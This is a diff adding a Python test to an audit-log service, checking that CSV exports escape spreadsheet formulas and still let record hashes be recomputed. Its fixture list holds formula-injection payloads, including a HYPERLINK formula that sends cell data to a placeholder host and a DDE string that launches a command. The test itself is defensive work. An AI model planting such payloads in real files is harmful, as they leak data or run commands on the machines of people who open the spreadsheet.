@@ -25,6 +25,7 @@ from hitmachine.config import Settings
 from hitmachine.domain.audit import AuditRecord, Outcome
 from hitmachine.domain.audit_encoding import PRUNED_VALUES
 from hitmachine.domain.checkpoint import CheckpointSigner
+from hitmachine.domain.csv_cells import FORMULA_START, unescape_cell
 from hitmachine.domain.identity import normalise_identity
 from hitmachine.domain.merkle import CompactRange
 from hitmachine.domain.principal import Principal, Role
@@ -363,6 +364,35 @@ def test_export_lets_anyone_recompute_every_leaf_and_is_audited(log: Context) ->
         exports = conn.execute(select(audit_records.c.detail)
                                .where(audit_records.c.event == "audit.export")).scalars().all()
     assert [json.loads(d)["records"] for d in exports] == [N, N // 10]
+
+
+FORMULAS = ('=HYPERLINK("http://x/?d="&B2)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
+            "\t=1+1", "\r=1+1", "'=quoted already")
+
+
+def test_csv_export_cells_never_start_a_formula_and_still_recompute(ctx: Context) -> None:
+    """Issue 13, finding 5: free text must not run as a formula in a spreadsheet."""
+    records = [AuditRecord(event="query.household", actor=text, role="coordinator",
+                           organisation="veiligheidshuis", request_id=text,
+                           outcome=Outcome.NO_HIT, case_reference=text, detail={})
+               for text in FORMULAS]
+    with ctx.db.write() as conn:
+        audit_log.append(conn, records)
+    service.integrate(ctx)
+    out = io.StringIO(newline="")
+    service.export_records(ctx, OFFICER, AuditFilter(event="query.household"), "csv", out,
+                           "rid-csv")
+    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    cells = [cell for row in rows for cell in row]
+    assert cells and not [c for c in cells if c.startswith(FORMULA_START)]
+    header, *body = rows
+    assert len(body) == len(FORMULAS)
+    for values, text in zip(body, FORMULAS, strict=True):
+        row = {name: unescape_cell(cell) for name, cell in zip(header, values, strict=True)}
+        assert row["case_reference"] == row["actor"] == text
+        item: dict[str, Any] = dict(row, seq=int(row["seq"]), id=int(row["id"]))
+        item.update({name: None for name in row["null_fields"].split()})
+        assert independent_leaf_hash(item) == row["leaf_hash"]
 
 
 # --- a data subject's records -----------------------------------------------------------
